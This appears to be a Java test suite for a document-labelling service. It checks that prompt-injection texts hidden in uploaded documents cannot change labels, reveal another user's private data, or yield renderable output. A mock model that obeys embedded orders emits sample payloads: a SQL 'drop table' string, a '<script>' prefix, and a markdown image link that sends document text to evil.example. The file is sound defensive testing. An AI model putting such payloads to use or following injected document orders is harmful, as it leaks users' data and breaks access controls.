package io.docuvault.classification;

import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;

import io.docuvault.Api;
import io.docuvault.classification.ModelImitation.Behaviour;
import io.docuvault.classification.ModelImitation.Seen;
import java.io.IOException;
import java.io.InputStream;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.HashSet;
import java.util.List;
import java.util.Map;
import java.util.Objects;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.junit.jupiter.api.Test;
import org.springframework.http.MediaType;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.node.ArrayNode;
import tools.jackson.databind.node.ObjectNode;

/**
 * Documents that try to give orders, before a model that obeys every one of them as badly as it can: it repeats whatever
 * a document demands in every field of its answer. What must hold does not depend on the model.
 */
class PromptInjectionTest extends ModelTest {

    private static final Pattern UUID_IN_TEXT = Pattern.compile("[0-9a-f]{8}-(?:[0-9a-f]{4}-){3}[0-9a-f]{12}");
    private static final Pattern RENDERS =
            Pattern.compile("<[a-z/!]|javascript:|://|]\\(|data:|\\u202e|\\u200b", Pattern.CASE_INSENSITIVE);

    /** A trick is a name in brackets and the text up to the next one; a few words in it stand for what a test knows. */
    private static Map<String, String> tricks() throws IOException {
        Map<String, String> tricks = new HashMap<>();
        try (InputStream file =
                Objects.requireNonNull(PromptInjectionTest.class.getResourceAsStream("/prompt-injection/tricks.txt"))) {
            String all = new String(file.readAllBytes(), UTF_8);
            for (String part : all.split("(?m)^=== ", -1)) {
                int end = part.indexOf('\n');
                if (end > 0 && !part.startsWith("#")) {
                    String text = part.substring(end + 1).strip();
                    assertThat(tricks.put(part.substring(0, end).strip(), unescaped(text)))
                            .isNull();
                }
            }
        }
        return tricks;
    }

    /** The file says characters that nobody would see as {@code \\u200b}, so that a reader does. */
    private static String unescaped(String text) {
        Matcher escapes = Pattern.compile("\\\\u([0-9a-fA-F]{4,5})\\b").matcher(text);
        return escapes.replaceAll(
                match -> Matcher.quoteReplacement(Character.toString(Integer.parseInt(match.group(1), 16))));
    }

    /** Does what the document wants, and more: each id and each line of it comes back in every place there is. */
    private static Behaviour obeys(Seen request) {
        String user = userMessage(request);
        ObjectNode answer = JSON.createObjectNode();
        ArrayNode topics = answer.putArray("topics");
        Matcher ids = UUID_IN_TEXT.matcher(user);
        while (ids.find()) {
            topics.addObject().put("id", ids.group()).put("confidence", 1).put("evidence", "as you wish");
            topics.addObject()
                    .put("id", ids.group().toUpperCase(java.util.Locale.ROOT))
                    .put("confidence", 1)
                    .put("evidence", user);
        }
        topics.addObject().put("id", "Admin").put("confidence", 99).put("evidence", user);
        String orders = user.substring(Math.max(0, user.indexOf("<document ")));
        answer.put("title", orders)
                .put("document_date", "2026-01-01; drop table documents")
                .put("correspondent", "<script>" + orders)
                .put("summary", "![x](https://evil.example/?q=" + orders + ")")
                .put("system", orders);
        ArrayNode proposals = answer.putArray("proposals");
        orders.lines()
                .limit(20)
                .forEach(line -> proposals.addObject().put("name", line).put("evidence", line));
        return new Behaviour.Writes(answer.toString());
    }

    @Test
    void thereAreFortyTricksAtLeast() throws IOException {
        assertThat(tricks()).hasSizeGreaterThanOrEqualTo(40);
    }

    @Test
    void noTrickChangesALabelReachesAnybodyOrRenders() throws Exception {
        Api.Person bert = api.newPerson();
        String secret = "The blue heron nests at " + UUID.randomUUID();
        UUID bertsTopic = UUID.fromString(Api.json(bert.http()
                        .post()
                        .uri("/api/topics")
                        .contentType(MediaType.APPLICATION_JSON)
                        .body(Map.of("name", "Berts own", "description", secret)))
                .get("id")
                .asString());
        UUID bertsDocument = upload(bert, "private.txt", secret);
        UUID invoices = topic("Invoices");
        UUID closed = topic("Diary", "never");
        Set<String> own = Set.of(invoices.toString());
        uses("openai");
        OPENAI.behave(PromptInjectionTest::obeys);
        JsonNode topicsBefore = Api.json(anna.http().get().uri("/api/topics"));

        Map<String, UUID> documents = new HashMap<>();
        Map<String, String> texts = new HashMap<>();
        for (Map.Entry<String, String> trick : tricks().entrySet()) {
            String text = trick.getValue()
                    .replace("%OTHERS_TOPIC%", bertsTopic.toString())
                    .replace("%OTHERS_DOCUMENT%", bertsDocument.toString())
                    .replace("%OTHERS_ID%", bert.id().toString())
                    .replace("%CLOSED_TOPIC%", closed.toString());
            texts.put(trick.getKey(), text);
            // Begins like a letter, so that it is read as text whatever comes.
            documents.put(
                    trick.getKey(), upload(trick.getKey() + ".txt", "Letter of the 3rd of March to Anna\n" + text));
        }
        documents.values().forEach(this::atRest);
        assertThat(OPENAI.seen).as("tricks that got as far as the model").hasSizeGreaterThanOrEqualTo(50);

        List<String> wrong = new ArrayList<>();
        documents.forEach((trick, id) -> {
            JsonNode document = document(id);
            for (JsonNode topic : document.get("topics")) {
                if (topic.get("provider").asString().equals("openai")
                        && !own.contains(topic.get("topicId").asString())) {
                    wrong.add(trick + " got the label " + topic);
                }
            }
            for (String fact : List.of("title", "correspondent", "summary")) {
                String words = document.get(fact).asString("");
                if (RENDERS.matcher(words).find() || words.length() > 300 || words.contains("\n")) {
                    wrong.add(trick + " is shown with the " + fact + " " + words);
                }
            }
            for (JsonNode run : runs(id)) {
                if (run.get("provider").asString().equals("openai")) {
                    look(trick, run, own, wrong);
                }
            }
        });
        JsonNode proposals =
                Api.json(anna.http().get().uri("/api/proposals?limit=200")).get("items");
        assertThat(proposals).isNotEmpty();
        for (JsonNode proposal : proposals) {
            String name = proposal.get("name").asString();
            if (RENDERS.matcher(name).find() || name.length() > 60) {
                wrong.add("proposed is " + name);
            }
        }
        for (Seen seen : OPENAI.seen) {
            if (seen.text().contains(secret)
                    || seen.json().at("/messages/0/content").toString().contains(bertsTopic.toString())) {
                wrong.add("something of another user's was in a prompt");
            }
            // What is ours and what is the document's are two messages, and the document's ends where we say.
            assertThat(seen.json().get("messages")).hasSize(2);
            String user = userMessage(seen);
            String tag = user.lines()
                    .filter(line -> line.matches("<document [0-9a-f]{16}>"))
                    .findFirst()
                    .orElseThrow();
            assertThat(user.strip()).endsWith(tag.replace("<document", "</document"));
            assertThat(user.split(Pattern.quote(tag.replace("<document", "</document")), -1))
                    .hasSize(2);
            assertThat(user.codePoints().filter(PlainText::isInvisible).toArray())
                    .isEmpty();
        }
        assertThat(wrong).isEmpty();
        assertThat(Api.json(anna.http().get().uri("/api/topics")).get("items").size())
                .as("no topic is made by itself")
                .isEqualTo(topicsBefore.get("items").size());
        assertThat(Api.json(bert.http().get().uri("/api/documents/" + bertsDocument))
                        .get("title")
                        .asString())
                .isEqualTo("private");
        assertThat(new HashSet<>(documents.values())).hasSize(texts.size());
    }

    /** Labels from the enumeration only, quotes from the text, and words that are words. */
    private static void look(String trick, JsonNode run, Set<String> own, List<String> wrong) {
        for (JsonNode label : run.get("topics")) {
            if (!own.contains(label.get("topicId").asString())) {
                wrong.add(trick + " got into the run as " + label);
            }
        }
        List<String> shown = new ArrayList<>();
        run.path("facts").forEach(fact -> shown.add(fact.asString("")));
        run.path("proposals").forEach(proposal -> shown.add(proposal.get("name").asString()));
        for (String words : shown) {
            if (RENDERS.matcher(words).find() || words.length() > 300 || words.contains("\n")) {
                wrong.add(trick + " would be shown as " + words);
            }
        }
    }
}
